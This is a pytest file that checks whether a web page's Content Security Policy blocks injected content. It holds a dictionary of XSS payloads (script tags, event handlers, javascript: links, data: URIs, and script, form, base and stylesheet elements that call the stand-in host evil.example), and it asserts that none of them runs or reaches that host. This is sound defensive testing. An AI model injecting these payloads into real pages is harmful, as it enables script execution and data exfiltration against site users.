"""What the pages' own policy stops, were anything hostile ever to slip through."""

from __future__ import annotations

import pytest

pytestmark = pytest.mark.slow

SLIPPED = {
    "script": "<script>window.pwned = 1</script>",
    "handler": "<img src=x onerror='window.pwned = 1'>",
    "link": "<a id=x href='javascript:window.pwned = 1'>x</a>",
    "frame": "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "vector": "<svg onload='window.pwned = 1'></svg>",
    "far": "<script src='https://evil.example/x.js'></script>",
    "data": "<script src='data:text/javascript,window.pwned = 1'></script>",
    "object": "<object data='data:text/html,<script>parent.pwned = 1</script>'></object>",
    "form": "<form id=f action='https://evil.example/'><input name=x></form>",
    "base": "<base href='https://evil.example/'>",
    "style": "<link rel=stylesheet href='https://evil.example/x.css'>",
}


@pytest.mark.parametrize("name", SLIPPED)
def test_what_slips_through_does_not_run_and_reaches_nobody(context, folder, tmp_path, name):
    home = folder / "index.html"
    page = tmp_path / "index.html"
    page.write_text(home.read_text("utf-8").replace("</main>", f"{SLIPPED[name]}</main>"), "utf-8")
    reached = []
    context.route("https://evil.example/**", lambda route: (reached.append(1), route.abort()))
    opened = context.new_page()
    opened.goto(page.as_uri())
    opened.evaluate(
        "document.querySelector('a#x')?.click(); document.querySelector('form#f')?.submit()"
    )
    opened.wait_for_timeout(200)
    assert opened.evaluate("window.pwned") is None
    assert opened.evaluate("document.baseURI") == page.as_uri()
    assert reached == []


def test_without_the_policy_the_same_would_run(browser, folder, tmp_path):
    context = browser.new_context(bypass_csp=True)
    page = tmp_path / "index.html"
    home = (folder / "index.html").read_text("utf-8")
    page.write_text(home.replace("</main>", f"{SLIPPED['script']}</main>"), "utf-8")
    opened = context.new_page()
    opened.goto(page.as_uri())
    assert opened.evaluate("window.pwned") == 1
    context.close()
